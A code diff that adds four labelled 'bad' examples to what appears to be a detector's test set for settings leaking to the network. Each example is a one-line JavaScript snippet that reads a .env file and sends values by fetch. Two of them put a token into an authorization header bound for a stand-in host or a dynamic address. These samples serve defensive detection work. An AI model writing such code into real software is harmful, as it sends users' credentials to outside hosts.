@@ -56,6 +56,26 @@ export const ofSettings: DetectorExamples = {
       why: 'all of them after some',
       attributes: { source: 'environment', sink: 'network.header', to: 'take.example' },
     },
+    {
+      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); const base = settings.URL.replace(/\\/$/, ''); fetch(base + '/items', { method: 'POST' });",
+      why: 'the address that settings name is asked, and told nothing of them',
+      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'configured' },
+    },
+    {
+      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(await place(), { headers: { authorization: settings.TOKEN } });",
+      why: 'a setting goes to an address that comes from elsewhere',
+      attributes: { source: 'file:environment-file', sink: 'network.header', to: 'dynamic' },
+    },
+    {
+      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); const base = settings.URL || 'https://take.example'; fetch(base + '/x', { headers: { authorization: settings.TOKEN } });",
+      why: 'a setting goes to the host that stands in for one that is not there',
+      attributes: { source: 'file:environment-file', sink: 'network.header', to: 'take.example' },
+    },
+    {
+      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(settings.URL.replace(/^.*$/, place) + '/items', { method: 'POST' });",
+      why: 'something else is put in the place of the address that settings name',
+      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'dynamic' },
+    },
   ],
   good: [
     {
